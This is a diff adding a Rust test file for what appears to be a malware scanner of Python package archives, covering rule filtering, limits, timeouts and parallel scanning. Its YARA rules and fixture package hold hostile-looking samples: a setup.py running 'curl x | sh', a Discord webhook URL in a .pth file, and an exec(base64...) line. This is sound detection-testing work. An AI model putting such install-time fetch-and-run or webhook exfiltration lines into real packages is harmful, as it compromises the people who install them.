@@ -1,0 +1,256 @@
+//! The engine against archives built here, compared with a plain yara-x
+//! scan of the same files.
+
+use std::collections::BTreeMap;
+use std::io::Write;
+use std::sync::Arc;
+use std::time::Duration;
+
+use dragonfly_engine::{Engine, Limits, Outcome, RuleSet, scanners_created};
+
+/// Rules exercising weights, filetypes, and a rule for every file.
+fn rules_source() -> Vec<(&'static str, String)> {
+    vec![
+        (
+            "py.yar",
+            r#"
+            rule exec_b64 { meta: weight = 5 filetype = ".py"
+                strings: $a = "exec(base64" condition: $a }
+            rule setup_system { meta: weight = 7 filetype = "setup.py"
+                strings: $a = "os.system(" condition: $a }
+            rule webhook { meta: weight = 3 filetype = ".py .pth"
+                strings: $a = /discord(app)?\.com\/api\/webhooks/ condition: $a }
+            "#
+            .to_owned(),
+        ),
+        (
+            "any.yar",
+            r#"
+            rule elf_anywhere { meta: weight = 2
+                strings: $a = { 7F 45 4C 46 } condition: $a at 0 }
+            rule webhook { meta: weight = 1 filetype = ".txt"
+                strings: $a = "webhooks" condition: $a }
+            "#
+            .to_owned(),
+        ),
+    ]
+}
+
+fn payload(parts: &[&str]) -> Vec<u8> {
+    parts.concat().into_bytes()
+}
+
+/// (path, bytes) of a realistic package with a few suspicious files.
+fn package_files(root: &str) -> Vec<(String, Vec<u8>)> {
+    let mut elf = vec![0x7f, b'E', b'L', b'F'];
+    elf.extend((0..5000u32).map(|i| (i.wrapping_mul(2654435761) >> 24) as u8));
+    vec![
+        (format!("{root}/setup.py"), payload(&["import os\n", "os.sys", "tem(", "'curl x | sh')\n"])),
+        (format!("{root}/pkg/__init__.py"), b"from .core import run\n__all__ = ['run']\n".to_vec()),
+        (format!("{root}/pkg/core.py"), payload(&["import base64\n", "exec(base", "64.b64decode('cHJpbnQoMSk='))\n"])),
+        (format!("{root}/pkg/hook.pth"), payload(&["import x; u='https://discord.com/api/web", "hooks/1/abc'\n"])),
+        (format!("{root}/pkg/notes.txt"), payload(&["see https://discord.com/api/web", "hooks/ for details\n"])),
+        (format!("{root}/pkg/data.json"), b"{\"exec(base64\": 1}".to_vec()),
+        (format!("{root}/pkg/_speedups.so"), elf),
+        (format!("{root}/README.md"), b"# pkg\nos.system( in a readme does not count\n".to_vec()),
+    ]
+}
+
+fn sdist(files: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+    for (path, data) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(data.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder.append_data(&mut header, path, data.as_slice()).unwrap();
+    }
+    builder.into_inner().unwrap().finish().unwrap()
+}
+
+fn wheel(files: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    for (path, data) in files {
+        zip.start_file(path.as_str(), options).unwrap();
+        zip.write_all(data).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+/// The reference: every file scanned with a fresh yara-x scanner, matches
+/// filtered by `filetype` afterwards. Returns path -> sorted rule names.
+fn reference(rules: &RuleSet, files: &[(String, Vec<u8>)]) -> BTreeMap<String, Vec<(String, String)>> {
+    let mut out = BTreeMap::new();
+    for (path, data) in files {
+        let mut scanner = yara_x::Scanner::new(rules.yara());
+        let results = scanner.scan(data).unwrap();
+        let mut names: Vec<(String, String)> = results
+            .matching_rules()
+            .filter(|r| {
+                rules
+                    .rules()
+                    .iter()
+                    .find(|i| i.namespace == r.namespace() && i.name == r.identifier())
+                    .is_some_and(|i| i.applies_to(path))
+            })
+            .map(|r| (r.namespace().to_owned(), r.identifier().to_owned()))
+            .collect();
+        names.sort();
+        if !names.is_empty() {
+            out.insert(path.clone(), names);
+        }
+    }
+    out
+}
+
+fn engine_matches(report: &dragonfly_engine::DistributionReport) -> BTreeMap<String, Vec<(String, String)>> {
+    report
+        .files
+        .iter()
+        .map(|f| {
+            let mut names: Vec<(String, String)> =
+                f.matches.iter().map(|m| (m.namespace.clone(), m.name.clone())).collect();
+            names.sort();
+            (f.path.clone(), names)
+        })
+        .collect()
+}
+
+#[test]
+fn sdist_and_wheel_match_a_fresh_scanner_per_file() {
+    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
+    let engine = Engine::new(Arc::clone(&rules));
+    let files = package_files("pkg-1.0");
+    let expected = reference(&rules, &files);
+    assert_eq!(expected.len(), 5, "fixture sanity: {expected:?}");
+
+    for (name, bytes) in [("pkg-1.0.tar.gz", sdist(&files)), ("pkg-1.0-py3-none-any.whl", wheel(&files))] {
+        let report = engine.scan_archive(&format!("https://files.example/packages/aa/{name}"), &bytes);
+        assert!(report.is_complete(), "{name}: {report:?}");
+        assert_eq!(engine_matches(&report), expected, "{name}");
+        // setup.py (7) + exec_b64 (5) + webhook in py.yar (3) + elf (2) + webhook in any.yar (1).
+        assert_eq!(report.score(), 18, "{name}");
+        assert_eq!(report.most_malicious_file().unwrap().path, "pkg-1.0/setup.py");
+    }
+}
+
+#[test]
+fn skipping_unfiltered_files_changes_nothing() {
+    // Only .py rules: files of other types are skipped, and the result must
+    // equal scanning everything and filtering afterwards.
+    let rules = Arc::new(RuleSet::compile("t", [("py.yar", rules_source()[0].1.clone())]).unwrap());
+    let engine = Engine::new(Arc::clone(&rules));
+    let files = package_files("p-1");
+    let expected = reference(&rules, &files);
+    for bytes in [sdist(&files), wheel(&files)] {
+        let report = engine.scan_archive("p-1.tar.gz", &bytes);
+        assert_eq!(engine_matches(&report), expected);
+        assert_eq!(report.files_scanned, 4, "setup.py, __init__.py, core.py, hook.pth");
+        assert_eq!(report.files_skipped, 4, "notes.txt, data.json, .so, README.md");
+    }
+}
+
+#[test]
+fn excluded_zip_entries_are_not_decompressed() {
+    let rules = Arc::new(RuleSet::compile("t", [("py.yar", rules_source()[0].1.clone())]).unwrap());
+    let engine = Engine::new(rules).with_limits(Limits { max_file_bytes: 1 << 20, ..Limits::default() });
+    let mut files = package_files("p-1");
+    // Far over the per-file limit, but no rule applies to .bin files.
+    files.push(("p-1/blob.bin".into(), vec![0u8; 8 << 20]));
+    let report = engine.scan_archive("p-1.whl", &wheel(&files));
+    assert!(report.is_complete(), "{report:?}");
+    assert_eq!(report.score(), 15);
+    // The same oversized file with a .py name is read and refused.
+    files.push(("p-1/blob.py".into(), vec![0u8; 8 << 20]));
+    let report = engine.scan_archive("p-1.whl", &wheel(&files));
+    let error = report.error.unwrap();
+    assert!(error.contains("blob.py"), "{error}");
+}
+
+#[test]
+fn scanners_are_reused_per_thread() {
+    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
+    let engine = Engine::new(rules);
+    let bytes = wheel(&package_files("p-1"));
+    // Warm this thread's scanner, then count.
+    engine.scan_archive("p.whl", &bytes);
+    let before = scanners_created();
+    for _ in 0..20 {
+        engine.scan_archive("p.whl", &bytes);
+    }
+    // Other tests run in parallel threads and may create their own scanners,
+    // but 20 scans of 8 files on this thread must not create 160.
+    assert!(scanners_created() - before < 20, "scanners created per file");
+}
+
+#[test]
+fn a_new_rule_set_gets_a_new_scanner() {
+    let first = Arc::new(RuleSet::compile("a", [("a", "rule a { meta: weight = 1 condition: true }")]).unwrap());
+    let second = Arc::new(RuleSet::compile("b", [("b", "rule b { meta: weight = 2 condition: true }")]).unwrap());
+    let file = || vec![dragonfly_engine::File { path: "x.py".into(), data: b"x".to_vec() }];
+    let one = Engine::new(first).scan_files("d", file());
+    let two = Engine::new(second).scan_files("d", file());
+    assert_eq!((one.files[0].matches[0].name.as_str(), two.files[0].matches[0].name.as_str()), ("a", "b"));
+}
+
+#[test]
+fn timeouts_are_failures_naming_the_file() {
+    // Quadratic loop: far more than a second on 200 kB.
+    let slow = r#"rule slow { meta: weight = 1
+        condition: for all i in (0..filesize - 1) : (
+            for all j in (0..filesize - 1) : (uint8(i) != uint8(j) or i == j or true)) }"#;
+    let rules = Arc::new(RuleSet::compile("t", [("slow.yar", slow)]).unwrap());
+    let engine = Engine::new(rules).with_timeout(Duration::from_secs(1));
+    let files = vec![
+        dragonfly_engine::File { path: "big.py".into(), data: vec![b'a'; 200_000] },
+        dragonfly_engine::File { path: "small.py".into(), data: b"ok".to_vec() },
+    ];
+    let report = engine.scan_files("https://h/p-1.tar.gz", files);
+    assert_eq!(report.file_errors.len(), 1, "{report:?}");
+    assert_eq!(report.file_errors[0].path, "big.py");
+    assert!(report.file_errors[0].message.contains("timed out"));
+    let package = dragonfly_engine::PackageReport {
+        name: "p".into(),
+        version: "1".into(),
+        commit: "t".into(),
+        distributions: vec![report],
+    };
+    match package.outcome() {
+        Outcome::Failure(f) => assert!(f.reason.contains("big.py") && f.reason.contains("timed out"), "{}", f.reason),
+        other => panic!("a timeout must not be reported as a score: {other:?}"),
+    }
+}
+
+#[test]
+fn limits_and_bad_archives_are_reported() {
+    let rules = Arc::new(RuleSet::bundled());
+    let engine = Engine::new(rules).with_limits(Limits { max_total_bytes: 10_000, ..Limits::default() });
+    let files = vec![("p-1/a.py".to_owned(), vec![b'x'; 50_000])];
+    let report = engine.scan_archive("p-1.tar.gz", &sdist(&files));
+    assert!(report.error.as_deref().unwrap_or_default().contains("limit"), "{report:?}");
+    let report = engine.scan_archive("p-1.tar.gz", b"definitely not an archive");
+    assert!(report.error.as_deref().unwrap_or_default().contains("unsupported"), "{report:?}");
+}
+
+#[test]
+fn large_distributions_scan_in_parallel_with_the_same_result() {
+    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
+    let engine = Engine::new(Arc::clone(&rules));
+    let mut files = package_files("big-1");
+    for i in 0..64 {
+        let mut data = vec![b'#'; 40_000];
+        if i % 16 == 0 {
+            data.extend_from_slice(&payload(&["exec(base", "64.b64decode('eA=='))"]));
+        }
+        files.push((format!("big-1/gen/m{i}.py"), data));
+    }
+    let expected = reference(&rules, &files);
+    let report = engine.scan_archive("big-1.whl", &wheel(&files));
+    assert!(report.bytes_scanned > 2 << 20);
+    assert_eq!(engine_matches(&report), expected);
+    let paths: Vec<&str> = report.files.iter().map(|f| f.path.as_str()).collect();
+    let mut sorted_by_archive_order = paths.clone();
+    sorted_by_archive_order.sort_by_key(|p| files.iter().position(|(q, _)| q == p));
+    assert_eq!(paths, sorted_by_archive_order, "reports keep archive order");
+}
